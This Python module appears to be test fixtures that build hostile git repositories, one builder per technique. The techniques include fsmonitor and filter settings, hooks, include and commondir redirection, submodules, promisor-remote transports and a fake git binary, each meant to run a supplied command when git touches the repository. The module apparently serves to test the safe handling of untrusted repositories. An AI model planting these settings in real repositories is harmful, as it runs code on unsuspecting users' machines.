"""Repositories that try to run a program through git: one builder for each attack."""

import os
import subprocess
from collections.abc import Callable
from pathlib import Path

from git_commands import git

Builder = Callable[[Path, str], Path]
"""Makes a repository below a folder, with a command as its payload. Returns the folder to open."""


def make_repository(folder: Path) -> Path:
    folder.mkdir(parents=True)
    git(folder, "init", "-q")
    (folder / "a.txt").write_text("one\n")
    git(folder, "add", "-A")
    git(folder, "commit", "-qm", "First")
    return folder


def touch_files(folder: Path) -> None:
    """Change a file without changing its size, so that git has to read it."""
    (folder / "a.txt").write_text("two\n")


def _settings(text: str) -> Builder:
    """A folder whose `.git/config` holds these settings; COMMAND stands for the payload."""

    def build(place: Path, command: str) -> Path:
        folder = make_repository(place / "unpacked")
        with (folder / ".git" / "config").open("a") as config:
            config.write(text.replace("COMMAND", command))
        touch_files(folder)
        return folder

    return build


def _filter(kind: str, where: str) -> Builder:
    def build(place: Path, command: str) -> Path:
        folder = make_repository(place / "unpacked")
        git(folder, "config", f"filter.x.{kind}", command)
        git(folder, "config", "filter.x.required", "true")
        if where == "core.attributesFile":
            git(folder, "config", where, str(place / "attributes"))
            (place / "attributes").write_text("* filter=x\n")
        else:
            path = folder / where
            path.parent.mkdir(exist_ok=True)
            path.write_text("* filter=x\n")
        touch_files(folder)
        return folder

    return build


def nested_gitlink(place: Path, command: str) -> Path:
    """What a sandboxed command does: a nested repository with a filter, which the outer index names as a gitlink."""
    folder = make_repository(place / "outer")
    nested = make_repository(folder / "lib")
    head = git(nested, "rev-parse", "HEAD").strip()
    git(nested, "config", "filter.x.clean", command)
    git(nested, "config", "core.fsmonitor", command)
    (nested / ".gitattributes").write_text("* filter=x\n")
    touch_files(nested)
    git(folder, "update-index", "--add", "--cacheinfo", f"160000,{head},lib")
    return folder


def nested_gitlink_in_gitmodules(place: Path, command: str) -> Path:
    folder = nested_gitlink(place, command)
    (folder / ".gitmodules").write_text('[submodule "lib"]\n\tpath = lib\n\turl = ./lib\n\tignore = none\n')
    git(folder, "config", "submodule.lib.ignore", "none")
    git(folder, "config", "submodule.recurse", "true")
    git(folder, "config", "status.submoduleSummary", "true")
    git(folder, "config", "diff.submodule", "diff")
    git(folder, "config", "diff.ignoreSubmodules", "none")
    return folder


def bare_in_a_clone(place: Path, command: str) -> Path:
    """A plain clone: the bare repository below it is made of ordinary files, its index among them."""
    source = make_repository(place / "source")
    bare = source / "docs"
    git(source, "init", "-q", "--bare", "docs")
    inside = {**os.environ, "GIT_DIR": str(bare), "GIT_WORK_TREE": str(source)}
    subprocess.run(["git", "add", "a.txt"], cwd=source, env=inside, check=True)
    for name in ("refs", "refs/heads", "refs/tags"):
        (bare / name / "keep").write_text("")  # git stores no empty folders
    (bare / "config").write_text(
        f'[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = "{command}"\n'
        f'[filter "x"]\n\tclean = "{command}"\n'
    )
    (bare / "info").mkdir(exist_ok=True)
    (bare / "info" / "attributes").write_text("* filter=x\n")
    git(source, "add", "-A")
    git(source, "commit", "-qm", "Documentation")
    git(place, "clone", "-q", str(source), "clone")
    touch_files(place / "clone")
    return place / "clone" / "docs"


def gitfile_elsewhere(place: Path, command: str) -> Path:
    folder = make_repository(place / "unpacked")
    (folder / ".git").rename(folder / "metadata")
    (folder / ".git").write_text("gitdir: metadata\n")
    with (folder / "metadata" / "config").open("a") as config:
        config.write(f'[core]\n\tfsmonitor = "{command}"\n')
    touch_files(folder)
    return folder


def commondir_elsewhere(place: Path, command: str) -> Path:
    folder = make_repository(place / "unpacked")
    other = make_repository(folder / "vendor")
    with (other / ".git" / "config").open("a") as config:
        config.write(f'[core]\n\tfsmonitor = "{command}"\n[filter "x"]\n\tclean = "{command}"\n')
    (folder / ".gitattributes").write_text("* filter=x\n")
    (folder / ".git" / "commondir").write_text("../vendor/.git\n")
    touch_files(folder)
    return folder


def worktree_config(place: Path, command: str) -> Path:
    folder = make_repository(place / "unpacked")
    git(folder, "config", "core.repositoryFormatVersion", "1")
    git(folder, "config", "extensions.worktreeConfig", "true")
    (folder / ".git" / "config.worktree").write_text(
        f'[core]\n\tfsmonitor = "{command}"\n[filter "x"]\n\tclean = "{command}"\n'
    )
    (folder / ".gitattributes").write_text("* filter=x\n")
    touch_files(folder)
    return folder


def included_settings(place: Path, command: str) -> Path:
    folder = make_repository(place / "unpacked")
    (folder / "more").write_text(f'[core]\n\tfsmonitor = "{command}"\n[filter "x"]\n\tclean = "{command}"\n')
    git(folder, "config", "include.path", "../more")
    (folder / ".gitattributes").write_text("* filter=x\n")
    touch_files(folder)
    return folder


def promisor_remote(place: Path, command: str) -> Path:
    """A missing object of a partial clone is fetched, which starts a transport."""
    folder = make_repository(place / "unpacked")
    for blob in git(folder, "ls-tree", "-r", "--object-only", "HEAD").split():
        (folder / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    git(folder, "config", "core.repositoryFormatVersion", "1")
    git(folder, "config", "extensions.partialClone", "origin")
    git(folder, "config", "remote.origin.promisor", "true")
    git(folder, "config", "remote.origin.url", "ssh://nowhere.invalid/x")
    git(folder, "config", "core.sshCommand", command)
    git(folder, "config", "protocol.allow", "always")
    touch_files(folder)
    return folder


def promisor_upload_pack(place: Path, command: str) -> Path:
    folder = promisor_remote(place, command)
    other = make_repository(place / "remote")
    git(folder, "config", "remote.origin.url", str(other))
    git(folder, "config", "remote.origin.uploadpack", command)
    return folder


def promisor_ext(place: Path, command: str) -> Path:
    folder = promisor_remote(place, command)
    git(folder, "config", "remote.origin.url", "ext::" + command.replace(" ", "% "))
    git(folder, "config", "protocol.ext.allow", "always")
    return folder


def hooks_folder(place: Path, command: str) -> Path:
    folder = make_repository(place / "unpacked")
    hooks = folder / "hooks"
    hooks.mkdir()
    for name in ("post-index-change", "post-checkout", "reference-transaction", "fsmonitor-watchman", "pre-auto-gc"):
        (hooks / name).write_text(f"#!/bin/sh\n{command}\n")
        (hooks / name).chmod(0o755)
    git(folder, "config", "core.hooksPath", "hooks")
    touch_files(folder)
    return folder


def submodule_with_settings(place: Path, command: str) -> Path:
    """A real submodule, whose settings lie in `.git/modules`."""
    source = make_repository(place / "library")
    folder = make_repository(place / "outer")
    git(folder, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(source), "lib")
    git(folder, "commit", "-qm", "Library")
    inner = folder / ".git" / "modules" / "lib"
    with (inner / "config").open("a") as config:
        config.write(f'\tfsmonitor = "{command}"\n[filter "x"]\n\tclean = "{command}"\n')
    (inner / "info" / "attributes").write_text("* filter=x\n")
    (folder / "lib" / "a.txt").write_text("two\n")
    return folder


def driver_attributes(place: Path, command: str) -> Path:
    folder = make_repository(place / "unpacked")
    with (folder / ".git" / "config").open("a") as config:
        config.write(
            f'[diff "x"]\n\tcommand = "{command}"\n\ttextconv = "{command}"\n\tcachetextconv = true\n'
            f'[merge "x"]\n\tdriver = "{command}"\n[diff]\n\texternal = "{command}"\n'
        )
    (folder / ".gitattributes").write_text("* diff=x merge=x\n")
    touch_files(folder)
    return folder


def global_driver(place: Path, command: str) -> Path:
    """The repository selects a filter of the user's own settings, such as that of Git LFS."""
    folder = make_repository(place / "unpacked")
    (place / "gitconfig").write_text(f'[filter "lfs"]\n\tclean = "{command}"\n\tprocess = "{command}"\n')
    (folder / ".gitattributes").write_text("* filter=lfs\n")
    touch_files(folder)
    return folder


def commit_hooks_in_templates(place: Path, command: str) -> Path:
    """Hooks, grafts and replaced objects in the git folder itself."""
    folder = make_repository(place / "unpacked")
    for name in ("post-index-change", "post-checkout", "reference-transaction", "post-rewrite"):
        path = folder / ".git" / "hooks" / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"#!/bin/sh\n{command}\n")
        path.chmod(0o755)
    head = git(folder, "rev-parse", "HEAD").strip()
    (folder / ".git" / "info" / "grafts").write_text(f"{head} {'0' * 40}\n")
    touch_files(folder)
    return folder


def git_in_the_folder(place: Path, command: str) -> Path:
    """A program named git in a folder of the repository that `PATH` may hold."""
    folder = make_repository(place / "unpacked")
    for name in ("bin", "sub"):
        (folder / name).mkdir()
        (folder / name / "git").write_text(f"#!/bin/sh\n{command}\n")
        (folder / name / "git").chmod(0o755)
    touch_files(folder)
    return folder


SETTINGS = (
    '[core]\n\tfsmonitor = "COMMAND"\n\tsshCommand = "COMMAND"\n\tpager = "COMMAND"\n\teditor = "COMMAND"\n'
    '\taskPass = "COMMAND"\n\tgitProxy = "COMMAND"\n\talternateRefsCommand = "COMMAND"\n'
    '[alias]\n\tstatus = "!COMMAND"\n\tlog = "!COMMAND"\n\trev-parse = "!COMMAND"\n\tls-files = "!COMMAND"\n'
    '[credential]\n\thelper = "!COMMAND"\n[gpg]\n\tprogram = "COMMAND"\n[log]\n\tshowSignature = true\n'
    '[commit]\n\tgpgSign = true\n[sequence]\n\teditor = "COMMAND"\n[interactive]\n\tdiffFilter = "COMMAND"\n'
    '[diff]\n\texternal = "COMMAND"\n\ttool = "x"\n[difftool "x"]\n\tcmd = "COMMAND"\n'
    '[uploadpack]\n\tpackObjectsHook = "COMMAND"\n[remote "origin"]\n\turl = "ext::COMMAND"\n'
    '\tuploadpack = "COMMAND"\n\treceivepack = "COMMAND"\n\tvcs = "COMMAND"\n\tproxy = "COMMAND"\n'
    '[pager]\n\tstatus = "COMMAND"\n\tlog = "COMMAND"\n\tdiff = "COMMAND"\n'
    '[trailer "x"]\n\tcommand = "COMMAND"\n[status]\n\tsubmoduleSummary = true\n'
)

ATTACKS: dict[str, Builder] = {
    "nested-gitlink": nested_gitlink,
    "nested-gitlink-in-gitmodules": nested_gitlink_in_gitmodules,
    "submodule": submodule_with_settings,
    "bare-in-a-clone": bare_in_a_clone,
    "clean-gitattributes": _filter("clean", ".gitattributes"),
    "process-gitattributes": _filter("process", ".gitattributes"),
    "smudge-gitattributes": _filter("smudge", ".gitattributes"),
    "clean-info-attributes": _filter("clean", ".git/info/attributes"),
    "process-attributes-file": _filter("process", "core.attributesFile"),
    "settings": _settings(SETTINGS),
    "fsmonitor-second-section": _settings('[CORE]\n\tfsMonitor = "COMMAND"\n'),
    "drivers": driver_attributes,
    "hooks-path": hooks_folder,
    "worktree-config": worktree_config,
    "include-path": included_settings,
    "gitfile-elsewhere": gitfile_elsewhere,
    "commondir": commondir_elsewhere,
    "filter-of-the-user": global_driver,
    "hooks-and-grafts": commit_hooks_in_templates,
    "git-in-the-folder": git_in_the_folder,
    "promisor-ssh": promisor_remote,
    "promisor-upload-pack": promisor_upload_pack,
    "promisor-ext": promisor_ext,
}
